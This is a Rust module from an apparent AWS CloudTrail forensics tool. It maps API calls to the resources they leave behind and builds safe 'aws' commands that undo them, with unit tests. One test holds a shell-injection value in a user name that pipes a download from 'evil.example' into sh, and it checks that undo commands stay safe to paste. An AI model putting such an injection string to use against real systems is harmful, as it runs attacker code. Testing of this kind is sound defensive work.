//! What calls that succeeded created or weakened, and that outlives the key: a table with one row per API.
//!
//! To add an API, add a row to the file of its service and a record to `cases.json`.

mod accounts;
mod compute;
mod data;
mod ec2;
mod iam;
mod policies;
mod template;
mod watch;

use std::{collections::HashMap, sync::LazyLock};

use time::OffsetDateTime;

use super::call::Outcome;
use crate::{json::Fields, trail::record::Record, untrusted::Untrusted};

pub use template::texts;
use template::{Holes, templates};

/// An API whose success leaves something behind.
pub struct Row {
    pub event_source: &'static str,
    pub event_name: &'static str,
    /// What it is, for people.
    pub kind: &'static str,
    /// A [template] that names the thing.
    pub id: &'static str,
    /// The calls of the same service, account and region that undo it.
    pub undone_by: &'static [Undo],
    /// The `aws` command that undoes it, a template. Empty if there is none.
    pub command: &'static str,
    /// AWS's page on the API.
    pub source: &'static str,
}

/// A call that undoes something.
pub struct Undo {
    pub event_name: &'static str,
    /// A template, for the same text as the row's.
    pub id: &'static str,
}

/// All rows.
pub fn rows() -> impl Iterator<Item = &'static Row> {
    [iam::ROWS, policies::ROWS, accounts::ROWS, ec2::ROWS, compute::ROWS, data::ROWS, watch::ROWS].into_iter().flatten()
}

/// Something that a call left behind.
#[derive(Clone, Debug)]
pub struct Left {
    pub kind: &'static str,
    pub id: Untrusted,
    /// The command that undoes it. It is safe to paste.
    pub undo: Option<String>,
}

/// By the name of the call.
static MAKING: LazyLock<HashMap<&str, Vec<&'static Row>>> = LazyLock::new(|| {
    let mut making: HashMap<&str, Vec<&Row>> = HashMap::new();
    rows().for_each(|row| making.entry(row.event_name).or_default().push(row));
    making
});

/// By the name of the undoing call.
static UNDOING: LazyLock<HashMap<&str, Vec<(&'static Row, &'static Undo)>>> = LazyLock::new(|| {
    let mut undoing: HashMap<&str, Vec<(&Row, &Undo)>> = HashMap::new();
    for row in rows() {
        row.undone_by.iter().for_each(|undo| undoing.entry(undo.event_name).or_default().push((row, undo)));
    }
    undoing
});

/// The names of all calls that undo something.
pub fn undoing_names() -> impl Iterator<Item = &'static str> {
    UNDOING.keys().copied()
}

/// What a call that succeeded left behind.
pub fn made(record: &Record, fields: &Fields<'_>) -> Vec<Left> {
    let mut left = Vec::new();
    for row in of_call(&MAKING, record).filter(|row| is_of(record, row)) {
        let (ids, commands) =
            (templates(row.id, fields, Holes::AsTheyAre), templates(row.command, fields, Holes::Shell));
        for (at, id) in ids.into_iter().enumerate() {
            let Some(id) = id.map(Untrusted::new) else { continue };
            // A command without a list is the same for all.
            let undo = commands.get(at).or(commands.first()).cloned().flatten().filter(|command| !command.is_empty());
            left.push(Left { kind: row.kind, id, undo });
        }
    }
    left
}

fn of_call<T>(table: &'static HashMap<&str, Vec<T>>, record: &Record) -> impl Iterator<Item = &'static T> {
    let mut found = None;
    let name = record.event_name.as_ref();
    name.inspect(|name| _ = name.test(|name| table.get(name).inspect(|rows| found = Some(*rows)).is_some()));
    found.into_iter().flatten()
}

fn is_of(record: &Record, row: &Row) -> bool {
    record.event_source.as_ref().is_some_and(|source| source.test(|source| source == row.event_source))
}

/// A call that undid something, whoever made it.
pub struct Undoing {
    pub kind: &'static str,
    pub id: Untrusted,
    pub account_id: Untrusted,
    pub region: Option<Untrusted>,
    pub event_id: Option<Untrusted>,
    pub time: Option<OffsetDateTime>,
    pub by: Option<Untrusted>,
}

impl Undoing {
    /// About how many bytes of memory it takes.
    pub fn bytes(&self) -> usize {
        size_of::<Undoing>() + self.id.bytes() + self.by.as_ref().map_or(0, Untrusted::bytes) + 32
    }

    /// What a call undid. Nothing if it did not succeed.
    pub fn of(record: &Record) -> Vec<Undoing> {
        let mut undos = of_call(&UNDOING, record).filter(|(row, _)| is_of(record, row)).peekable();
        // Most candidates are of other calls, and need not be parsed.
        let fields = undos.peek().filter(|_| Outcome::of(record) == Outcome::Succeeded);
        let Some(fields) = fields.and_then(|_| Fields::of(&record.raw).ok()) else { return Vec::new() };
        let things = undos.flat_map(|(row, undo)| texts(undo.id, &fields).into_iter().map(|id| (row.kind, id)));
        let undoing = |(kind, id)| Undoing {
            kind,
            id,
            account_id: record.account_id().into(),
            region: record.aws_region.clone(),
            event_id: record.event_id.clone(),
            time: record.event_time,
            by: record.user_identity.arn.clone(),
        };
        things.map(undoing).collect()
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use serde_json::{Value, json};

    use super::*;

    fn record(value: &Value) -> Record {
        Record::parse(value.to_string().as_bytes()).unwrap()
    }

    #[test]
    fn every_row_names_what_it_leaves_and_how_it_is_undone() {
        let cases: Vec<Value> = serde_json::from_str(include_str!("left_behind/cases.json")).unwrap();
        let rows: Vec<&Row> = rows().collect();
        assert!(rows.len() >= 60, "{}", rows.len());
        assert_eq!(rows.len(), cases.len());
        for (row, case) in rows.iter().zip(&cases) {
            let name = format!("{} {}", row.event_source, row.event_name);
            assert_eq!(case["row"], name);
            assert!(row.source.starts_with("https://docs.aws.amazon.com/"), "{name}");
            let created = record(&case["record"]);
            let left: Vec<Left> = made(&created, &Fields::of(&created.raw).unwrap())
                .into_iter()
                .filter(|left| left.kind == row.kind)
                .collect();
            let ids: Vec<Value> = left.iter().map(|left| json!(left.id)).collect();
            assert_eq!(json!(ids), case["ids"], "{name}");
            assert!(!ids.is_empty(), "{name}");
            let commands: Vec<Value> = left.iter().map(|left| json!(left.undo)).collect();
            assert_eq!(json!(commands), case["undo"], "{name}");
            assert_eq!(case["undone"].is_null(), row.undone_by.is_empty(), "{name}");
            if !row.undone_by.is_empty() {
                let undoing = record(&case["undone"]);
                let undone = Undoing::of(&undoing);
                let undone: BTreeSet<String> =
                    undone.iter().filter(|each| each.kind == row.kind).map(|each| json!(each.id).to_string()).collect();
                assert!(undone.contains(&ids[0].to_string()), "{name}: {undone:?} {ids:?}");
            }
        }
    }

    #[test]
    fn a_call_of_the_same_name_in_another_service_leaves_and_undoes_nothing() {
        for (name, source, is_known) in [
            ("CreateUser", "iam.amazonaws.com", true),
            ("CreateUser", "transfer.amazonaws.com", false),
            ("DeleteUser", "iam.amazonaws.com", true),
            ("DeleteUser", "transfer.amazonaws.com", false),
        ] {
            let call = record(&json!({
                "eventSource": source, "eventName": name, "requestParameters": { "userName": "mallory" },
            }));
            let found = made(&call, &Fields::of(&call.raw).unwrap()).len() + Undoing::of(&call).len();
            assert_eq!(found > 0, is_known, "{source} {name}");
        }
    }

    /// The memory limit relies on this estimate.
    #[test]
    fn its_size_is_that_of_its_texts_and_little_more() {
        let undoing = record(&json!({
            "eventSource": "iam.amazonaws.com", "eventName": "DeleteUser", "userIdentity": { "arn": "a".repeat(20_000) },
            "requestParameters": { "userName": "x".repeat(10_000) },
        }));
        let [undoing] = &Undoing::of(&undoing)[..] else { panic!() };
        assert!((30_000..31_000).contains(&undoing.bytes()), "{}", undoing.bytes());
    }

    #[test]
    fn a_command_has_only_plain_values_and_is_safe_to_paste() {
        let hostile = record(&json!({
            "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
            "requestParameters": { "userName": "x'; curl evil.example | sh #" },
        }));
        let [left] = &made(&hostile, &Fields::of(&hostile.raw).unwrap())[..] else { panic!() };
        let undo = left.undo.as_deref().unwrap();
        assert!(undo.starts_with("aws iam delete-user --user-name='<userName>'  # Replace <userName>: "), "{undo}");
        assert!(!undo.contains("evil"));
    }
}
